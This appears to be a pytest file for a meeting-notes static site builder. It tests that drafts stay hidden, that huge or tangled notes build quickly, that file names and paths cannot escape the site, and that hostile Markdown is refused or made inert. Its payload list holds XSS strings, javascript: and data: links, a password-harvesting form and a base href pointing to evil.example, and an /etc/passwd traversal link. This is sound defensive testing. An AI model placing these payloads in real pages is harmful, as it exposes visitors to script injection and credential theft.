"""Inputs that were made to mislead, stall or break the build: each is refused or harmless, and fast."""

import re
from collections.abc import Callable

import pytest

from tests.support import SETTINGS, built, checked, given, note, within


def titled(*lines: str) -> str:
    """A note with these lines of front matter after its title and date."""
    return "\n".join(("---", "title: T", "date: 2024-01-01", *lines, "---", "Hoopoe", ""))


PUBLISHED = "status: published"
WITHHELD = {
    "draft": titled("status: draft"),
    "line ends of Windows": titled("status: draft").replace("\n", "\r\n"),
    "blank line first": "\n" + titled("status: draft"),
    "spaces after fences": titled("status: draft").replace("---", "---  "),
    "dash of a word processor": titled(PUBLISHED).replace("---", "—-"),
    "closed by dots": titled(PUBLISHED).replace("---\nHoopoe", "...\nHoopoe"),
    "never closed": titled(PUBLISHED).replace("---\nHoopoe", "Hoopoe"),
    "Cyrillic letter": titled("st\u0430tus: published"),
    "capital": titled("status: Published"),
    "curly quotes": titled("status: “published”"),
    "no status": titled(),
    "two statuses": titled("status: draft", PUBLISHED),
    "two statuses, one capital": titled(PUBLISHED, "STATUS: draft"),
    "other embargo": titled(PUBLISHED, "embargo: 2099-01-01"),
    "embargo in words": titled(PUBLISHED, "publish_at: soon"),
    "embargo without offset": titled(PUBLISHED, "publish_at: 2030-12-03 09:30"),
    "embargo": titled(PUBLISHED, "publish_at: 2030-12-03T09:30Z"),
    "embargo as a list": titled(PUBLISHED, "publish_at: []"),
    "merge key": titled("x: &x {status: published}", "<<: *x"),
    "other language": '+++\nstatus = "published"\n+++\nHoopoe\n',
    "empty": "",
    "swallowed by a block": titled("venue: |", "  x", "  status: published"),
    "a list": "---\n- status: published\n---\nHoopoe\n",
    "words": "---\nstatus published\n---\nHoopoe\n",
}


def test_a_note_that_is_clearly_published_is_shown() -> None:
    assert "Hoopoe" in "".join(built(given({"meetings/2024/a.md": titled(PUBLISHED)})).values())


@pytest.mark.parametrize("text", WITHHELD.values(), ids=WITHHELD)
def test_a_note_that_is_not_clearly_published_is_not_shown(text: str, kept: Callable[..., None]) -> None:
    content = given({"meetings/2024/a.md": text})
    site, found = checked(content)
    if site is None:
        assert any(each.severity == "error" for each in found)
    else:
        assert "Hoopoe" not in "".join(built(content).values())
    kept(1, "spellings of a draft or an embargo that show nothing")


@pytest.mark.parametrize("data", [b"\x00", "text".encode("utf-16"), b"---\n\xff\n---\n", b"\xef\xbb\xbf"])
def test_what_is_no_text_is_refused(data: bytes) -> None:
    site, found = checked(given({"meetings/2024/a.md": data}))
    assert site is None
    assert found


@pytest.mark.parametrize(
    "body",
    [
        "## 1. A\n\n" + "[" * 40_000,
        "## 1. A\n\n" + "- " * 500 + "x",
        "## 1. A\n\n" + ">" * 5000 + "x",
        "## 1. A\n" * 3000,
        "### Question 1\n" * 3000,
        "## 1. A\n\n### Question 1\n\nx\n\n" + " " * 40_000 + "x",
        "## 1. A\n" + "- Topic: x\n" * 5000,
        "## 1. A\n\n" + "**Answer (" * 3000,
        "## 1. A\n\n" + "ABC " * 5000,
        "## 1. A\n\n### Question 1\n\n" + "**Answer:** x\n\n" * 1500,
        "\n".join("  " * depth + "- x" for depth in range(300)),
        "| a " * 2000 + "\n" + "|---" * 2000,
        "## 1. " + "a" * 100_000,
    ],
    ids=lambda body: body[:14].replace("\n", " "),
)
def test_a_large_or_tangled_note_stalls_nothing(body: str, kept: Callable[..., None]) -> None:
    within(lambda text: checked(given({"meetings/2024/a.md": text}), SETTINGS)[1], note(body))
    kept(6, "tangled notes read with little work")


@pytest.mark.parametrize("stem", ["..", "_redirects", "CNAME", "CON", "cafe\u0301", "a#b", "-rf", "a b"])
def test_no_name_is_more_than_a_part_of_an_address(stem: str) -> None:
    site, found = checked(given({f"meetings/2024/{stem}.md": note("")}))
    assert site is None
    assert "file-name" in [each.code for each in found]


@pytest.mark.parametrize("stem", ["../../escape", "a/../../x"])
def test_no_path_leads_out_of_the_site(stem: str) -> None:
    files = built(given({f"meetings/2024/{stem}.md": note("")}))
    assert not [path for path in files if ".." in path or path.startswith("/")]


@pytest.mark.parametrize(
    "value", ["<script>alert(1)</script>", '" onmouseover="alert(1)', "{{ 7 * 7 }}", "&lt;b&gt;"]
)
def test_fields_are_shown_as_they_are_written(value: str) -> None:
    quoted = "'" + value.replace("'", "''") + "'"
    page = built(given({"meetings/2024/a.md": note("", venue=quoted)}))["meetings/a/index.html"]
    escaped = value.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;").replace('"', "&#34;")
    assert f"<dd>{escaped}</dd>" in page


PAYLOADS = {
    "script": "<script>alert(1)</script>",
    "picture with a handler": "<svg onload=alert(1)>",
    "form": '<form action="https://evil.example"><input name=pw><button>Sign in</button></form>',
    "base": '<base href="https://evil.example/">',
    "style": '<p style="position:fixed;inset:0">x</p>',
    "object": '<object data="javascript:alert(1)"></object>',
    "details": "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "noscript": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "script address": "[a](JaVaScRiPt:alert(1))",
    "script address with a reference": "[a](java&#9;script:alert(1))",
    "automatic address": "<javascript:alert(1)>",
    "other scheme": "[a](vbscript:msgbox(1))",
    "data": "[a](data:text/html;base64,PHNjcmlwdD4=)",
    "picture": "![a](data:image/svg+xml;base64,PHN2Zy8+)",
    "picture elsewhere": "![a](//evil.example/p.gif)",
    "link elsewhere": "[a](//evil.example/)",
    "link out of the folder": "[a](../../../../etc/passwd)",
    "title": '[a](http://e "x\\" onmouseover=alert(1) y=\\"")',
    "attributes": "[a](http://e){: onclick=alert(1)}",
    "attributes of a paragraph": 'para\n{: onmouseover="alert(1)" style="color:red" }',
    "abbreviation": '*[PCC]: x" onmouseover="alert(1)\n\nPCC',
    "fence": '```js" onclick="alert(1)\ncode\n```',
    "tildes": "~~~\ncode\n~~~",
    "contents": "[TOC]\n\n# [x](javascript:alert(1))",
    "Markdown in HTML": '<div markdown="1" onclick="alert(1)">\n*x*\n</div>',
    "admonition": '!!! note" onclick="alert(1)\n    x',
    "comment": "Public <!-- secret CANARY --> text",
    "footnote": "Public.\n\n[^sec]: CANARY unused footnote",
    "alternative text": "![victim CANARY](a.png)",
    "hidden": "<p hidden>CANARY</p>",
    "link definition": "[x]: https://evil.example 'CANARY'",
    "zero width": "pay\u200bment",
    "bidirectional": "\u202etfard\u202c",
    "placeholder": "a\u0002wzxhzdk:0\u0003b",
    "escape": "a\u001b[31mred",
    "null": "a\0b",
    "reference": "&lt;script&gt;",
    "processing": "<?php echo 1 ?>",
    "template": "{{ config }} {% raw %}",
}
HARMLESS = {"template", "admonition"}


@pytest.mark.parametrize("name", PAYLOADS)
def test_no_text_becomes_active(name: str, kept: Callable[..., None]) -> None:
    content = given({"meetings/2024/a.md": note(f"## 1. A\n\n{PAYLOADS[name]}\n")})
    site, found = checked(content)
    if name in HARMLESS:
        assert site, found
        page = built(content)["meetings/a/index.html"]
        assert not re.search(r"<[^>]*onclick", page)
        assert "{{ config }}" in page or name != "template"
    else:
        assert site is None
        assert {each.place.path for each in found if each.severity == "error"} == {"meetings/2024/a.md"}
        assert all(each.place.line >= 8 for each in found if each.severity == "error")
    kept(6, "hostile texts refused at their line, or harmless")
